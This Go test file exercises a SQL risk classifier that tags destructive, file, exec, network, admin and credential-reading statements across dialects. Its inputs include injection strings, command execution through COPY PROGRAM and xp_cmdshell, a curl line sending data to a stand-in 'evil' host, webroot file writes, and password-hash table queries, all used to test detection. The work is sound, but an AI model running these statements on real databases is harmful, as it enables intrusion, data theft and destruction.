package risk

import (
	"fmt"
	"strings"
	"testing"
)

var allSQLTags = []string{"sql.write", "sql.ddl", "sql.destructive", "sql.parse_error"}

func TestSQLCorpus(t *testing.T) {
	cases := []struct {
		src   string
		has   []string
		stmts string // verb:tables:where; ...
	}{
		{"SELECT * FROM users WHERE id = 1", nil, "SELECT:users:true"},
		{"select name from Users u join orders o on o.uid = u.id", nil, "SELECT:users,orders:false"},
		{"SELECT a FROM s.t1, t2 AS x, \"Quoted Table\" q", nil, `SELECT:s.t1,t2,Quoted Table:false`},
		{"SELECT EXTRACT(YEAR FROM created_at) FROM events", nil, "SELECT:events:false"},
		{"SELECT 1", nil, "SELECT::false"},
		{"INSERT INTO logs (msg) VALUES ('hi')", []string{"sql.write"}, "INSERT:logs:false"},
		{"UPDATE users SET admin = true WHERE id = 7", []string{"sql.write"}, "UPDATE:users:true"},
		{"UPDATE users SET admin = true", []string{"sql.write", "sql.destructive"}, "UPDATE:users:false"},
		{"DELETE FROM sessions WHERE expires < now()", []string{"sql.write"}, "DELETE:sessions:true"},
		{"DELETE FROM sessions", []string{"sql.write", "sql.destructive"}, "DELETE:sessions:false"},
		{"delete from sessions where 1=1", []string{"sql.write", "sql.destructive"}, "DELETE:sessions:false"},
		{"DELETE FROM s WHERE id = 3 OR 1 = 1", []string{"sql.write", "sql.destructive"}, "DELETE:s:false"},
		{"DELETE FROM s WHERE TRUE", []string{"sql.write", "sql.destructive"}, "DELETE:s:false"},
		{"DELETE FROM s WHERE 'a' = 'a'", []string{"sql.write", "sql.destructive"}, "DELETE:s:false"},
		{"DELETE FROM s WHERE id IN (SELECT id FROM t WHERE x)", []string{"sql.write"}, "DELETE:s,t:true"},
		{"UPDATE t SET x = (SELECT y FROM u WHERE z)", []string{"sql.write", "sql.destructive"}, "UPDATE:t,u:false"},
		{"DROP TABLE users", []string{"sql.ddl", "sql.destructive"}, "DROP:users:false"},
		{"drop table if exists a, b cascade", []string{"sql.ddl", "sql.destructive"}, "DROP:a,b:false"},
		{"TRUNCATE TABLE audit", []string{"sql.ddl", "sql.destructive", "sql.write"}, "TRUNCATE:audit:false"},
		{"CREATE TABLE IF NOT EXISTS t (id int)", []string{"sql.ddl"}, "CREATE:t:false"},
		{"CREATE INDEX i ON users (email)", []string{"sql.ddl"}, "CREATE:users:false"},
		{"ALTER TABLE users ADD COLUMN age int", []string{"sql.ddl"}, "ALTER:users:false"},
		{"ALTER TABLE users DROP COLUMN email", []string{"sql.ddl", "sql.destructive"}, "ALTER:users:false"},
		{"GRANT ALL ON accounts TO bob", []string{"sql.ddl"}, "GRANT:accounts:false"},
		{"SELECT 1; DROP TABLE users", []string{"sql.ddl", "sql.destructive"}, "SELECT::false;DROP:users:false"},
		{"SELECT 1; -- DROP TABLE users", nil, "SELECT::false"},
		{"SELECT 1 /* DROP TABLE users; */", nil, "SELECT::false"},
		{"SELECT 1 /*!50000 ; DROP TABLE users */", []string{"sql.ddl", "sql.destructive"}, "SELECT::false;DROP:users:false"},
		{"SELECT 1 --1; DROP TABLE users", []string{"sql.ddl", "sql.destructive"}, ""},
		{"SELECT 'x; DROP TABLE users'", nil, "SELECT::false"},
		{`SELECT 'a\'; DROP TABLE users; --'`, []string{"sql.ddl", "sql.destructive"}, ""},
		// Dollar quotes are PostgreSQL's; to MySQL "$$" is a name and the
		// DROP a statement of its own.
		{"SELECT $$; DROP TABLE x$$", []string{"sql.ddl", "sql.destructive"}, ""},
		{"SELECT $tag$ ; DELETE FROM x $tag$", []string{"sql.write", "sql.destructive"}, ""},
		{"WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", []string{"sql.write", "sql.destructive"}, "DELETE:users:false;SELECT:gone:false"},
		{"WITH x AS (SELECT 1) UPDATE t SET a = 1 WHERE b", []string{"sql.write"}, "UPDATE:t:true"},
		{"EXPLAIN DELETE FROM users", nil, "EXPLAIN:users:false"},
		{"EXPLAIN ANALYZE DELETE FROM users", []string{"sql.write", "sql.destructive"}, "DELETE:users:false"},
		{"COPY users TO PROGRAM 'curl -d @- evil'", []string{"sql.write", "sql.destructive"}, "COPY:users:false"},
		{"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", []string{"sql.write"}, "MERGE:t,s:false"},
		{"SELECT 1 # ; DROP TABLE users", []string{"sql.ddl", "sql.destructive"}, ""},
		{"SELECT * INTO backup FROM users", []string{"sql.ddl"}, "CREATE:backup,users:false"},
		{"SELECT a FROM users INTO OUTFILE '/tmp/x'", nil, "SELECT:users:false"}, // a file, not a table (sql.file)
		{"(SELECT 1)", nil, "SELECT::false"},
		// Words that open a T-SQL statement, inside another: not cut.
		{"SELECT * FROM t USE INDEX (idx) WHERE a = 1", nil, "SELECT:t:true"},
		{"SHOW CREATE TABLE users", nil, "SHOW::false"},
		{"SELECT avg(load) AS load FROM t", nil, "SELECT:t:false"},
		{"INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1", []string{"sql.write"}, "INSERT:t:false"},
		{"ALTER TABLE t DROP COLUMN c, ALTER COLUMN d TYPE int", []string{"sql.ddl", "sql.destructive"}, "ALTER:t:false"},
		{"", nil, ""},
		{";;", nil, ""},
		{"hello world", []string{"sql.parse_error"}, ""},
		{"SELECT 'unterminated", []string{"sql.parse_error"}, ""},
		{"SELECT /* unterminated", []string{"sql.parse_error"}, ""},
		{`SELECT "unterminated`, []string{"sql.parse_error"}, ""},
	}
	for _, c := range cases {
		stmts, tags := ClassifySQL(c.src)
		var absent []string
		for _, tag := range allSQLTags {
			if !containsString(c.has, tag) {
				absent = append(absent, tag)
			}
		}
		checkTags(t, c.src, tags, append([]string{"sql"}, c.has...), absent)
		if c.stmts == "" && !containsString(c.has, "sql.parse_error") && len(c.has) > 0 {
			continue // tags are what matters for these
		}
		var got []string
		for _, s := range stmts {
			got = append(got, fmt.Sprintf("%s:%s:%v", s.Verb, strings.Join(s.Tables, ","), s.HasWhere))
		}
		if strings.Join(got, ";") != c.stmts && !(c.stmts == "" && containsString(c.has, "sql.parse_error")) {
			t.Errorf("%q: statements %q, want %q", c.src, strings.Join(got, ";"), c.stmts)
		}
	}
}

func containsString(l []string, s string) bool {
	for _, x := range l {
		if x == s {
			return true
		}
	}
	return false
}

// FuzzClassifySQL: any input classifies without a panic, the readings
// sqlReadings picks answer as all four do, and a destructive statement
// stays destructive whatever harmless statement precedes it.
func FuzzClassifySQL(f *testing.F) {
	for _, s := range []string{"SELECT 1", "DELETE FROM t", "WITH a AS (DELETE FROM x) SELECT 1", "SELECT 'a\\'; DROP TABLE t",
		"/*!", "$a$", "E'\\''", "((((", "SELECT pg_read_file('x')", "EXEC master..xp_cmdshell 'x'", "SELECT [a] /* /* */ */", "EXPLAIN ANALYZE (", "SELECT EXTRACT(YEAR FROM x) FROM t WHERE 1=1 OR"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		_, tags := ClassifySQL(src)
		if len(tags) == 0 || tags[0] != "sql" {
			t.Fatalf("%q: tags %v", src, tags)
		}
		if s1, s2 := fmt.Sprint(ClassifySQL(src)), fmt.Sprint(classifySQL(src, sqlDialects)); s1 != s2 {
			t.Fatalf("%q: read as sqlReadings says %s, read four times %s", src, s1, s2)
		}
		_, after := ClassifySQL("SELECT 1;\n" + src)
		for _, tag := range []string{"sql.destructive", "sql.file", "sql.exec", "sql.network", "sql.admin"} {
			if containsString(tags, tag) && !containsString(after, tag) {
				t.Fatalf("%q: %s alone, not after SELECT 1", src, tag)
			}
		}
	})
}

// TestSQLSideEffectFuncs: every function of the table, called in the
// spellings each dialect accepts (schema-qualified, quoted, bracketed, upper
// case, as a table function, after a comment, in a second statement), gets
// its tags and is never a plain read.
func TestSQLSideEffectFuncs(t *testing.T) {
	for name, want := range sqlSideEffectFuncs {
		for _, src := range []string{
			"SELECT " + name + "('/etc/passwd')",
			"select * from " + name + "('a', 'b') AS x(y text)",
			"SELECT pg_catalog." + name + "(1)",
			`SELECT "` + name + `"(1)`,
			"SELECT [" + name + "](1)",
			"SELECT `" + name + "`(1)",
			"SELECT " + strings.ToUpper(name) + " (1)",
			"SELECT /* x */ " + name + "(1)",
			"SELECT 1; SELECT " + name + "(1) FROM t WHERE id = 2",
			"EXEC master.." + name + " 'dir'",
		} {
			stmts, tags := ClassifySQL(src)
			for _, w := range want {
				if !containsString(tags, w) {
					t.Errorf("%q: tags %v lack %s", src, tags, w)
				}
			}
			found := false
			for _, s := range stmts {
				found = found || containsString(s.Functions, name)
			}
			if !found {
				t.Errorf("%q: %s not among the functions of %+v", src, name, stmts)
			}
		}
	}
}

// TestSQLReadOnlyFuncs: the functions known to be read-only keep a SELECT
// a plain read; any other function makes it sql.function.
func TestSQLReadOnlyFuncs(t *testing.T) {
	for name := range sqlReadOnlyFuncs {
		if sqlVerbs[strings.ToUpper(name)] || sqlClauseWords[strings.ToUpper(name)] {
			continue
		}
		src := "SELECT " + name + "(a) FROM t WHERE id = 1"
		if _, tags := ClassifySQL(src); len(tags) != 1 {
			t.Errorf("%q: tags %v", src, tags)
		}
	}
	for _, src := range []string{"SELECT my_func(1)", "SELECT * FROM app.export_all()", "SELECT x FROM t WHERE f(x) > 1",
		"SELECT index(x) FROM t", "SELECT option(1)", "SELECT * FROM t OPTION (USE HINT('x'))",
		"CALL refresh_everything()", "EXECUTE prepared_thing"} {
		stmts, tags := ClassifySQL(src)
		if !containsString(tags, "sql.function") || len(stmts) == 0 || len(stmts[0].UnknownFunctions) != 1 {
			t.Errorf("%q: tags %v, statements %+v", src, tags, stmts)
		}
	}
	for _, src := range []string{"INSERT INTO t (a, b) VALUES (1, 2)", "CREATE TABLE IF NOT EXISTS t (id int)",
		"CREATE INDEX i ON users (email)", "WITH x(a) AS (SELECT 1) SELECT a FROM x", "SELECT CAST(a AS varchar(10)) FROM t",
		"SELECT count(*) FROM t GROUP BY a HAVING count(*) > 1", "SELECT a FROM t WHERE b IN (1, 2) AND EXISTS (SELECT 1)"} {
		if _, tags := ClassifySQL(src); containsString(tags, "sql.function") {
			t.Errorf("%q: tags %v", src, tags)
		}
	}
}

// TestSQLStatementEffects: statements that reach files, programs, other
// servers or the server's configuration, written as the manuals show them.
func TestSQLStatementEffects(t *testing.T) {
	cases := []struct {
		src  string
		want string
	}{
		// PostgreSQL: COPY (sql-copy.html), DO, LOAD, ALTER SYSTEM, CREATE EXTENSION / SERVER / FUNCTION.
		{"COPY t FROM PROGRAM 'curl http://x/ | sh'", "sql.exec"},
		{"COPY (SELECT * FROM users) TO '/tmp/users.csv' WITH (FORMAT csv)", "sql.file"},
		{"COPY t FROM '/etc/passwd'", "sql.file"},
		{"DO $$BEGIN PERFORM 1; END$$", "sql.exec"},
		{"LOAD 'auto_explain'", "sql.exec"},
		{"ALTER SYSTEM SET archive_command = 'sh -c x'", "sql.admin"},
		{"CREATE EXTENSION IF NOT EXISTS dblink", "sql.exec"},
		{"CREATE SERVER film_server FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", "sql.network"},
		{"CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u", "sql.exec"},
		{"CREATE ROLE admin2 SUPERUSER", "sql.admin"},
		// MySQL: SELECT ... INTO, LOAD DATA, SET GLOBAL, INSTALL PLUGIN.
		{"SELECT * FROM users INTO OUTFILE '/tmp/u.txt'", "sql.file"}, // a SELECT still, not a CREATE
		{"SELECT 0x3c3f INTO DUMPFILE '/var/www/s.php'", "sql.file"},
		{"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "sql.file"},
		{"LOAD XML INFILE 'p.xml' INTO TABLE person", "sql.file"},
		{"SET GLOBAL general_log = 'ON'", "sql.admin"},
		{"SET @@global.max_connections = 1", "sql.admin"},
		{"INSTALL PLUGIN x SONAME 'x.so'", "sql.exec"},
		// SQL Server: EXEC, BULK INSERT, RECONFIGURE, OPENROWSET.
		{"EXEC xp_cmdshell 'whoami'", "sql.exec"},
		{"EXEC master..xp_cmdshell 'whoami'", "sql.exec"},
		{"EXEC('DROP TABLE t')", "sql.exec"},
		{"EXECUTE AS LOGIN = 'sa'", "sql.admin"},
		{"EXEC sp_configure 'show advanced options', 1; RECONFIGURE", "sql.admin"},
		{"BULK INSERT t FROM 'C:\\data\\t.csv'", "sql.file"},
		{"SELECT * FROM OPENROWSET(BULK 'C:\\x.txt', SINGLE_CLOB) AS x", "sql.file"},
		// SQLite: ATTACH, load_extension, fileio.
		{"ATTACH DATABASE '/tmp/x.db' AS x", "sql.file"},
		{"SELECT load_extension('/tmp/evil.so')", "sql.exec"},
		{"SELECT writefile('/tmp/x', 'data')", "sql.file"},
		// PostgreSQL Unicode-escaped names (sql-syntax-lexical.html, "Identifiers and Key Words").
		{`SELECT U&"\0070g_read_file"('/etc/passwd')`, "sql.file"},
		{`SELECT U&"pg\+00005Fls_dir"('/')`, "sql.file"},
		// Credentials: password hashes and stored passwords.
		{"SELECT usename, passwd FROM pg_shadow", "sql.secrets"},
		{"select rolpassword from PG_CATALOG.PG_AUTHID", "sql.secrets"},
		{`SELECT * FROM "pg_user_mappings"`, "sql.secrets"},
		{"SELECT user, authentication_string FROM mysql.user", "sql.secrets"},
		{"SELECT * FROM `mysql`.`global_priv`", "sql.secrets"},
		{"SELECT name, password_hash FROM [master].[sys].[sql_logins]", "sql.secrets"},
		{"SELECT name, password FROM sys.user$", "sql.secrets"},
		{"SELECT name, password FROM master..sysxlogins", "sql.secrets"},
		{"SELECT * FROM SYSLOGINS", "sql.secrets"},
		{"SELECT 1; SELECT * FROM pg_shadow", "sql.secrets"},
		{"WITH s AS (SELECT * FROM pg_authid) SELECT * FROM s", "sql.secrets"},
		// Row locks held until the transaction ends.
		{"SELECT * FROM accounts WHERE id = 1 FOR UPDATE", "sql.lock"},
		{"SELECT * FROM accounts FOR NO KEY UPDATE NOWAIT", "sql.lock"},
		{"SELECT * FROM accounts for share", "sql.lock"},
		{"SELECT * FROM accounts LOCK IN SHARE MODE", "sql.lock"},
		{"SELECT * FROM accounts WITH (UPDLOCK, HOLDLOCK)", "sql.lock"},
	}
	for _, c := range cases {
		_, tags := ClassifySQL(c.src)
		if !containsString(tags, c.want) {
			t.Errorf("%q: tags %v lack %s", c.src, tags, c.want)
		}
	}
}

// TestSQLReadsThatStayReads: tables named like credential tables elsewhere,
// and FOR in other places, are plain reads.
func TestSQLReadsThatStayReads(t *testing.T) {
	for _, src := range []string{
		"SELECT * FROM user",
		"SELECT * FROM app.users",
		"SELECT * FROM shadow_orders",
		"SELECT * FROM logins",
		"SELECT name FROM t WHERE purpose = 'for update'",
		"SELECT * FROM t ORDER BY updated",
	} {
		if _, tags := ClassifySQL(src); len(tags) != 1 || tags[0] != "sql" {
			t.Errorf("%q: tags %v, want only sql", src, tags)
		}
	}
}

// TestSQLDialectLexing: text hidden from one dialect (a nested comment, a
// bracketed name, an E” string) is still read by the others.
func TestSQLDialectLexing(t *testing.T) {
	for _, src := range []string{
		"SELECT 1 /* /* */ ; DROP TABLE t; */", // PostgreSQL nests comments; MySQL and SQLite do not
		"SELECT [a; DROP TABLE t; --] FROM x",  // a name to SQL Server and SQLite
		`SELECT E'\'; DROP TABLE t; --'`,       // a string to PostgreSQL
		"SELECT `a; DROP TABLE t; --` FROM x",  // a name to MySQL and SQLite
		"SELECT 1 -- x\n; DROP TABLE t",        // a new line ends the comment
		"SELECT 1 #\n; DROP TABLE t",           // MySQL comment to the end of the line
	} {
		if _, tags := ClassifySQL(src); !containsString(tags, "sql.destructive") {
			t.Errorf("%q: tags %v", src, tags)
		}
	}
	for _, src := range []string{"SELECT 1 /* a /* b */ c */ ;", "SELECT 'it''s'", "SELECT [order] FROM t"} {
		if _, tags := ClassifySQL(src); len(tags) != 1 {
			t.Errorf("%q: tags %v", src, tags)
		}
	}
}

// TestSQLExecutableComments: every comment form a server executes is read
// as SQL (MySQL Reference Manual, "Comments" and "Optimizer Hints";
// MariaDB docs, "Comment Syntax"): what it holds is tagged as if written
// plainly.
func TestSQLExecutableComments(t *testing.T) {
	for _, c := range []struct {
		src string
		tag string
	}{
		{"SELECT a FROM d.t /*M! UNION SELECT LOAD_FILE('/x') */", "sql.file"},
		{"SELECT a FROM d.t /*M!100000 INTO OUTFILE '/tmp/p' */", "sql.file"},
		{"SELECT a FROM d.t /*M!100301 INTO DUMPFILE '/tmp/p' */", "sql.file"},
		{"SELECT a FROM d.t /*m! UNION SELECT LOAD_FILE('/x') */", "sql.file"},
		{"SELECT 1 /*M!; DROP TABLE users */", "sql.destructive"},
		{"SELECT /*+ SET_VAR(sql_mode='') */ a FROM t", "sql.function"},
		{"SELECT /*+ BKA(t) */ a FROM t", "sql.function"}, // a hint rein does not know
	} {
		_, tags := ClassifySQL(c.src)
		if !containsString(tags, c.tag) {
			t.Errorf("%q: tags %v, want %s", c.src, tags, c.tag)
		}
	}
	// An ordinary comment stays a comment.
	if _, tags := ClassifySQL("SELECT a FROM t /* M! LOAD_FILE('/x') */"); len(tags) != 1 || tags[0] != "sql" {
		t.Errorf("ordinary comment: tags %v", tags)
	}
}

// BenchmarkClassifySQL: typical statements of each shape, one call per
// statement (ns/op is per statement, read four ways).
func BenchmarkClassifySQL(b *testing.B) {
	for _, c := range []struct{ name, src string }{
		{"select-join", "SELECT u.name, count(o.id) FROM users u JOIN orders o ON o.user_id = u.id WHERE u.created_at > '2024-01-01' GROUP BY u.name ORDER BY 2 DESC LIMIT 10"},
		{"cte-window", "WITH r AS (SELECT * FROM orders WHERE total > 100) SELECT id, rank() OVER (PARTITION BY user_id ORDER BY total DESC) FROM r"},
		{"tsql-batch", "SELECT TOP 10 name FROM customers WITH (NOLOCK) ORDER BY name DESC\nGO\nSELECT count(*) FROM orders"},
		{"duckdb-file", "SELECT * FROM read_parquet('s3://bucket/events/*.parquet') WHERE day = '2024-01-01'"},
		{"update", "UPDATE users SET plan = 'pro' WHERE id IN (SELECT user_id FROM orders WHERE total > 100)"},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				ClassifySQL(c.src)
			}
		})
	}
}
